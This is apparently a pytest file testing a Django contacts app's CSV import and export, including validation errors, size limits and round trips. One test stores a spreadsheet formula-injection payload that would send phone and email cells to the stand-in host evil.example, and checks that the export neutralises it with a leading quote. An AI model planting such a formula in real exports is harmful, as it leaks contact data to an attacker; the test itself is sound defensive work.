"""CSV import (run eagerly here; wecare/tests/test_worker.py runs it on a real worker)."""

import csv
import io
import random
import string
import uuid

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from contacts import actions, imports, queries
from contacts.models import ContactImport
from contacts.queries import find_live_by_phone
from wecare import safe_csv
from wecare.errors import FieldErrors

pytestmark = pytest.mark.django_db


def test_it_creates_valid_rows_and_reports_each_bad_row_with_its_line(operator, new_phone):
    good, other = new_phone(), new_phone()
    content = (
        f"name,phone,email,optInWhatsApp\nGood One,{good},,yes\nBad Phone,12345,,\nBad Optin,{other},,maybe\n,,,\n"
    ).encode()
    job = imports.get_import(imports.start_import(content, user=operator).importId)
    assert job.status == "completed" and job.createdCount == 1
    assert [(e["line"], e["reason"].split(":")[0]) for e in job.errorRows] == [
        (3, "phone"),
        (4, "optInWhatsApp is 'maybe'; use true or false"),
    ]  # line 5, only commas (a spreadsheet's blank last line), is no row at all
    contact = find_live_by_phone(good)
    assert contact.optInWhatsApp is True and contact.consentWhatsApp.source == f"csv:{job.importId}"


def test_importing_the_same_file_twice_creates_nothing_the_second_time(operator, new_phone):
    content = f"name,phone\nTwice,{new_phone()}\n".encode()
    first = imports.get_import(imports.start_import(content, user=operator).importId)
    second = imports.get_import(imports.start_import(content, user=operator).importId)
    assert (first.createdCount, first.existingCount) == (1, 0)
    assert (second.createdCount, second.existingCount, second.errorRows) == (0, 1, [])


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (b"", "empty"),
        (b"name,city\nA,B\n", "no 'phone' or 'email' column"),
        ("phone\n+1\n".encode("utf-16"), "not UTF-8"),
    ],
)
def test_a_file_of_the_wrong_shape_is_refused_before_anything_is_stored(operator, content, message):
    with pytest.raises(FieldErrors) as caught:
        imports.start_import(content, user=operator)
    assert message in caught.value.errors["file"]


def test_export_streams_live_contacts_with_the_import_columns(client_for, viewer, operator, new_phone):
    from contacts import actions

    phone = new_phone()
    actions.create_contact({"name": "Exported", "phone": phone, "optInEmail": False}, user=operator, source="test")
    response = client_for(viewer).get("/contacts/export.csv")
    body = b"".join(response.streaming_content).decode()
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    assert (
        body.splitlines()[0]
        == "contactId,name,phone,email,whatsappUserId,optInWhatsApp,optInSms,optInEmail,createdAt,updatedAt"
    )
    assert any(phone in line and ",false,false,false," in line for line in body.splitlines())


def test_export_names_a_username_customer_by_their_whatsapp_user_id(client_for, viewer):
    from contacts import actions
    from contacts.validation import WhatsAppIdentity

    user_id = f"US.{uuid.uuid4().int % 10**20}"
    actions.create_contact(
        {"name": "Exported Uma"}, user=None, source="test", whatsapp=WhatsAppIdentity(user_id=user_id)
    )
    table = safe_csv.read(
        b"".join(client_for(viewer).get("/contacts/export.csv", {"q": user_id}).streaming_content).decode()
    )
    [row] = [r for _, r in table.rows if r["whatsappUserId"] == user_id]
    assert (row["name"], row["phone"]) == ("Exported Uma", "")


def test_an_import_that_breaks_midway_is_marked_failed_not_left_running(operator, new_phone, monkeypatch):
    from contacts import actions

    content = f"name,phone\nA,{new_phone()}\nB,{new_phone()}\n".encode()
    calls = []

    def flaky(data, **kwargs):
        calls.append(data)
        if len(calls) == 2:
            raise ConnectionError("DynamoDB went away")
        return real(data, **kwargs)

    real = actions.create_contact
    monkeypatch.setattr(actions, "create_contact", flaky)
    started = imports.start_import(content, user=operator)  # runs eagerly; the task's error is logged
    job = imports.get_import(started.importId)
    assert (job.status, job.createdCount, job.processedRows) == ("failed", 1, 1)


def _export(client, query: str = "") -> list[list[str]]:
    response = client.get("/contacts/export.csv" + query)
    assert response.status_code == 200
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))


def test_the_export_writes_a_formula_name_and_a_phone_as_text(client_for, viewer, operator, new_phone):
    formula = '=HYPERLINK("http://evil.example/?c="&C2&D2,"Click for invoice")'
    phone = new_phone()
    contact = actions.create_contact({"name": formula, "phone": phone}, user=operator, source="test")
    [row] = [r for r in _export(client_for(viewer)) if r[0] == contact.contactId]
    assert row[1:3] == ["'" + formula, "'" + phone]  # what a spreadsheet shows as text


def _tag() -> str:
    """A search term that finds only the calling test's contacts (letters: digits would make it
    a phone search)."""
    return "".join(random.choices(string.ascii_lowercase, k=12))


def test_an_export_imports_back_as_it_was(client_for, operator, new_phone):
    tag = _tag()
    made = [
        actions.create_contact(
            {"name": f"=1+2 {tag}", "phone": new_phone(), "optInSms": True}, user=operator, source="test"
        ),
        # Starts with the quote the export adds: it gets one more, and the import takes one off.
        actions.create_contact(
            {"name": f"'=quoted {tag}", "email": f"-{tag}@example.com"}, user=operator, source="test"
        ),
    ]
    exported = _export(client_for(operator), f"?q={tag}")
    assert len(exported) == 3  # the header and the two
    for contact in made:
        actions.delete_contact(contact.contactId, user=operator)  # frees their phone and email again
    out = io.StringIO()
    csv.writer(out).writerows(exported)
    job = imports.get_import(imports.start_import(out.getvalue().encode(), user=operator).importId)
    assert (job.status, job.createdCount, job.errorRows) == ("completed", 2, [])
    again = {(c.name, c.phone, c.email, c.optInSms) for c in queries.search_contacts(tag).items}
    assert again == {(c.name, c.phone, c.email, c.optInSms) for c in made}


def test_the_export_follows_the_search(client_for, viewer, operator, new_phone):
    tag = _tag()
    found = actions.create_contact({"name": f"Found {tag}", "phone": new_phone()}, user=operator, source="test")
    other = actions.create_contact({"name": "Someone else", "phone": new_phone()}, user=operator, source="test")
    client = client_for(viewer)
    assert [r[0] for r in _export(client, f"?q={tag}")[1:]] == [found.contactId]
    assert {found.contactId, other.contactId} <= {r[0] for r in _export(client)}
    # The page's export link carries the search, also in the part a live search redraws.
    page = client.get(f"/contacts/?q={tag}").content.decode()
    assert f'href="/contacts/export.csv?q={tag}"' in page
    fragment = client.get(
        f"/contacts/?q={tag}", headers={"HX-Request": "true", "HX-Target": "results"}
    ).content.decode()
    assert f'href="/contacts/export.csv?q={tag}"' in fragment and "<h1>" not in fragment


def _imports_stored() -> int:
    return ContactImport.count()


def test_a_cell_over_the_csv_limit_is_refused_with_its_line_and_nothing_is_stored(operator, new_phone):
    content = f'name,phone\nAnn,{new_phone()}\n"Runaway,{new_phone()}\n{"x" * 140_000}\n'.encode()
    before = _imports_stored()
    with pytest.raises(FieldErrors) as caught:
        imports.start_import(content, user=operator)
    assert caught.value.errors["file"].startswith("line 3: a cell is longer than 131,072 characters")
    assert "nothing was imported" in caught.value.errors["file"]
    assert _imports_stored() == before


def test_the_import_page_shows_the_unreadable_line_as_a_form_error(client_for, operator):
    upload = SimpleUploadedFile("contacts.csv", ("phone\n" + "9" * 140_000 + "\n").encode(), content_type="text/csv")
    response = client_for(operator).post("/contacts/import/", {"file": upload})
    assert response.status_code == 200
    assert "line 2: a cell is longer than 131,072 characters" in response.content.decode()


def test_a_finished_import_logs_its_counts_and_its_task_succeeds(operator, new_phone, caplog, monkeypatch):
    content = f"name,phone\nLogged,{new_phone()}\nBad,123\n".encode()
    monkeypatch.setattr(imports.run_import_task, "delay", lambda import_id: None)  # run it below, by hand
    job = imports.start_import(content, user=operator)
    with caplog.at_level("INFO", logger="contacts.imports"):
        outcome = imports.run_import_task.apply(args=[job.importId])
    assert outcome.successful(), outcome.traceback
    [record] = [r for r in caplog.records if r.getMessage() == "contact import finished"]
    assert (record.import_id, record.created_count, record.existing_count, record.error_count) == (
        job.importId,
        1,
        0,
        1,
    )
